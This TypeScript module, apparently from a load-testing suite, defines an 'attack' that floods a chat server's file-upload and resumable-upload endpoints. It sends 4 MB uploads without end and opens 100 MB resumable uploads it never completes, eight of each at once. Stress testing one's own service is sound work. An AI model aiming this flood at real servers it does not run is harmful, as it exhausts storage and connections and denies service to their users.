import { randomBytes } from 'node:crypto'
import { setTimeout as sleep } from 'node:timers/promises'
import { type Attack, repeat, sumOf, type Try } from './attack.ts'

const MULTIPART_AT_ONCE = 8
const RESUMABLE_AT_ONCE = 8
const FILE_BYTES = 4 * 1_024 * 1_024
/** Announced of each upload in pieces; only its first piece is ever sent. */
const RESUMABLE_BYTES = 100 * 1_024 * 1_024
/** The chat answers so many requests of an account in a minute: what is refused waits a while. */
const REFUSED_PAUSE_MS = 1_000

/** Uploads files without end, and begins uploads in pieces that it never finishes. */
export const start: Attack = async (target, signal) => {
  const bytes = randomBytes(FILE_BYTES)
  const form = multipart(bytes)
  const whole: Try = async (caller) => {
    const headers = { ...caller.basic, 'content-type': form.type }
    return caller.send('/api/v1/user_uploads', { headers, body: form.body, signal })
  }
  const parts: Try = async (caller) => {
    const headers = {
      ...caller.basic,
      'tus-resumable': '1.0.0',
      'upload-length': String(RESUMABLE_BYTES),
      'upload-metadata': `filename ${btoa('part.bin')}`,
      'content-type': 'application/offset+octet-stream',
    }
    return caller.send('/api/v1/tus', { headers, body: bytes, signal })
  }
  return sumOf(
    await Promise.all([
      repeat(target, signal, MULTIPART_AT_ONCE, patient(whole)),
      repeat(target, signal, RESUMABLE_AT_ONCE, patient(parts)),
    ]),
  )
}

function patient(attempt: Try): Try {
  return async (caller, n, signal) => {
    const answer = await attempt(caller, n, signal)
    if (answer.status >= 400) {
      await sleep(REFUSED_PAUSE_MS, undefined, { signal }).catch(() => {})
    }
    return answer
  }
}

function multipart(bytes: Buffer): { type: string; body: Buffer } {
  const boundary = 'the-boundary-of-the-load-scenario'
  const head = `--${boundary}\r\ncontent-disposition: form-data; name="filename"; filename="flood.bin"\r\ncontent-type: application/octet-stream\r\n\r\n`
  const body = Buffer.concat([Buffer.from(head), bytes, Buffer.from(`\r\n--${boundary}--\r\n`)])
  return { type: `multipart/form-data; boundary=${boundary}`, body }
}
